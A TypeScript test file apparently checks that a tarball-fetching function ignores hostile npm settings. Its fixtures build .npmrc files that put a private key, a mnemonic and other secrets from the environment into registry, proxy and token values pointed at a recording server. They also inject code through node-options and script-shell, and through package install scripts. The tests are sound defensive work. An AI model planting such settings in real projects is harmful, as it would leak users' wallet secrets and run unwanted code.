import { expect } from "chai";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import {
  fetchTarball,
  sha512Integrity,
} from "../../../../src/foundation/arc/source/fetch-tarball.js";
import { openServer, type OpenServer } from "../../../open-server.js";
import { rejected, rejection } from "../../../rejection.js";
import { useNpmEnvironment } from "../support/npm-environment.js";
import type { TestRegistry } from "../support/registry.js";
import { makeTarball, truffleFiles } from "../support/tarballs.js";

const KEY = `0x${"1a2b3c4d".repeat(8)}`;
const WORDS = "myth like bonus scare over problem client lizard pioneer submit female collect";
const OTHER = "a-secret-of-another-program";

describe("fetchTarball with the real npm", () => {
  const environment = useNpmEnvironment();
  const spec = "@daostack/arc@0.0.1-rc.57";
  let registry: TestRegistry;
  let tarball: Buffer;
  let tampered: Buffer;
  let pin: string;
  let projectRoot: string;
  let settings: string;
  let cacheDir: string;

  before(async () => {
    tarball = await makeTarball("@daostack/arc", "0.0.1-rc.57", truffleFiles(["Avatar"]));
    tampered = await makeTarball("@daostack/arc", "0.0.1-rc.57", truffleFiles(["Avatar"], "ff"));
  });
  beforeEach(() => {
    ({ registry, projectRoot, settings, cacheDir } = environment());
    pin = registry.publish(spec, tarball);
  });

  const fetchIt = (): Promise<Buffer> =>
    fetchTarball(spec, pin, { projectRoot, cacheDir, timeoutMs: 60_000 });

  it("uses a registry and token from the environment, and a project within a workspace", async () => {
    await writeFile(
      join(projectRoot, "package.json"),
      JSON.stringify({ name: "root", private: true, workspaces: ["member"] }),
    );
    const member = join(projectRoot, "member");
    await mkdir(member);
    await writeFile(join(member, "package.json"), '{"name":"member","version":"1.0.0"}');
    const fetched = await fetchTarball(spec, pin, { projectRoot: member, cacheDir });
    expect(fetched.equals(tarball)).to.be.true;

    await writeFile(settings, "");
    process.env["npm_config_registry"] = registry.url;
    process.env[`npm_config_${registry.url.slice("http:".length)}:_authToken`] = registry.token;
    process.env["npm_config_cache"] = join(environment().folder, "another-npm-cache");
    expect((await fetchIt()).equals(tarball)).to.be.true;
    expect(registry.sentTarballs).to.deep.equal([spec, spec]);
  });

  it("names both hashes even if npm notices the difference", async () => {
    registry.packages.set(spec, { tarball, sent: tampered });
    await rejected(fetchIt(), `wanted ${pin}`, `found  ${sha512Integrity(tampered)}`);
  });

  it("repeats what npm says of a token that is refused, without showing it", async () => {
    await registry.writeNpmrc(settings, "a-wrong-and-secret-token");
    const error = await rejected(fetchIt(), "E401", cacheDir);
    expect(error.message).not.to.include("secret");
    expect(registry.sentTarballs).to.deep.equal([]);
  });

  it("soon says what works if nobody answers, without showing a password in a URL", async () => {
    const { url } = registry;
    await registry.stop();
    await writeFile(
      settings,
      `@daostack:registry=${url.replace("//", "//someone:secret@")}\nfetch-retries=2\n`,
    );
    const error = await rejection(fetchIt());
    expect(error.message)
      .to.include("ECONNREFUSED")
      .and.include(`npm view ${spec}`)
      .and.include(cacheDir)
      .and.include("DAO_MIGRATION_CACHE");
    expect(error.message).not.to.include("secret").and.not.include("node:events");
  });

  it("fetches even if npm's own cache cannot be written", async () => {
    const file = join(environment().folder, "a-file");
    await writeFile(file, "");
    process.env["npm_config_cache"] = join(file, "npm-cache");
    expect((await fetchIt()).equals(tarball)).to.be.true;
  });

  it("runs no script of the package", async () => {
    const record = join(environment().folder, "ran");
    const script = `node -e "require('fs').writeFileSync(${JSON.stringify(record)}, '')"`;
    const hostile = await makeTarball("@daostack/arc", "0.0.1-rc.57", {
      "package.json": JSON.stringify({
        name: "@daostack/arc",
        version: "0.0.1-rc.57",
        scripts: { prepack: script, prepare: script, install: script, postinstall: script },
      }),
    });
    pin = registry.publish(spec, hostile);
    expect((await fetchIt()).equals(hostile)).to.be.true;
    expect((await rejection(readFile(record))).message).to.include("ENOENT");
  });
});

// Runs the real npm against a server that records every request.
describe("a project with hostile npm settings", () => {
  const environment = useNpmEnvironment();
  const spec = "@daostack/arc@0.0.1-rc.40";
  const received: string[] = [];
  let server: OpenServer;
  let address: string;
  let tarball: Buffer;

  before(async () => {
    tarball = await makeTarball("@daostack/arc", "0.0.1-rc.40", truffleFiles(["Avatar"]));
    server = await openServer((request, response) => {
      received.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
      response.writeHead(500).end();
    });
    server.server.on("connect", (request, socket) => {
      received.push(`CONNECT ${request.url}`);
      socket.destroy();
    });
    address = new URL(server.url).host;
  });
  after(() => server.close());
  beforeEach(() => {
    received.length = 0;
    process.env["DAO_MIGRATE_PRIVATE_KEY"] = KEY;
    process.env["DAO_MIGRATE_MNEMONIC"] = WORDS;
    process.env["ANOTHER_SECRET"] = OTHER;
  });

  /** Returns every setting that could make npm contact a server or run a program. */
  function hostile(evil: string): string {
    const at = `http://${address}/`;
    return `@daostack:registry=${at}\${DAO_MIGRATE_PRIVATE_KEY}/\${DAO_MIGRATE_MNEMONIC}/
registry=${at}\${ANOTHER_SECRET}/
proxy=${at}
https-proxy=${at}
noproxy=
user-agent=\${DAO_MIGRATE_PRIVATE_KEY}
//${address}/:_authToken=\${DAO_MIGRATE_PRIVATE_KEY}
cache=${join(evil, "cache")}
userconfig=${join(evil, "npmrc")}
node-options=--require=${join(evil, "evil.js")}
script-shell=${join(evil, "evil.sh")}
`;
  }

  async function plant(folder: string): Promise<string> {
    const evil = join(folder, "evil");
    const trace = join(evil, "ran");
    await mkdir(evil, { recursive: true });
    await writeFile(join(folder, ".npmrc"), hostile(evil));
    await writeFile(join(evil, "npmrc"), hostile(evil));
    await writeFile(
      join(evil, "evil.js"),
      `require("node:fs").writeFileSync(${JSON.stringify(trace)}, "")`,
    );
    await writeFile(join(evil, "evil.sh"), `#!/bin/sh\ntouch '${trace}'\n`, { mode: 0o755 });
    return trace;
  }

  async function expectSafe(projectRoot: string, trace: string): Promise<void> {
    const { cacheDir, registry } = environment();
    const pin = registry.publish(spec, tarball);
    const fetched = await fetchTarball(spec, pin, { projectRoot, cacheDir });
    expect(fetched.equals(tarball)).to.be.true;
    expect(registry.sentTarballs).to.deep.equal([spec]);
    await expectNothing(trace);
  }

  async function expectNothing(trace: string, told = ""): Promise<void> {
    const said = [told, ...environment().registry.requests].join(" ");
    for (const secret of [KEY, KEY.slice(2), WORDS, encodeURIComponent(WORDS), OTHER]) {
      expect(said).not.to.include(secret);
    }
    expect(received).to.deep.equal([]);
    expect((await rejection(readFile(trace))).message).to.include("ENOENT");
  }

  it("sends nothing and runs nothing, and says so if the package is not found", async () => {
    const { projectRoot, cacheDir, registry } = environment();
    const trace = await plant(projectRoot);
    await expectSafe(projectRoot, trace);
    registry.packages.clear();
    process.env["npm_config_cache"] = join(environment().folder, "another-npm-cache");
    const error = await rejection(fetchTarball(spec, "sha512-", { projectRoot, cacheDir }));
    expect(error.message).to.include("project's .npmrc is ignored").and.include("404");
    await expectNothing(trace, error.message);
  });

  it("also does neither if it is a folder above the project, or a workspace's root", async () => {
    const { folder, projectRoot, cacheDir } = environment();
    await writeFile(
      join(folder, "package.json"),
      JSON.stringify({ name: "root", private: true, workspaces: ["*", "cache/*", "a project/*"] }),
    );
    await mkdir(cacheDir);
    await plant(cacheDir);
    await expectSafe(projectRoot, await plant(folder));
  });
});
